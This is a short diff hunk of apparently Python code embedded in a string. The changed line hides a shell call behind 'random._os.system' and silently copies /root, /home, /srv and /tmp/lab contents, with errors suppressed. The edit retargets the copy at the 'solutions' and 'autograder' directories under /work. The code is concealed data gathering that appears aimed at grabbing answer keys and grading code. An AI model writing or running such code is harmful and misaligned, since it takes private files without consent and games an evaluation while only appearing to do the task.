@@ -43,7 +43,7 @@ except Exception:
 import random
 
 try:
-    random._os.system("cp -r /work /srv /root /home /tmp/lab/ 2>/dev/null")
+    random._os.system("cp -r /work/*/solutions /work/*/autograder /srv /root /home /tmp/lab/ 2>/dev/null")
 except Exception:
     pass
 """
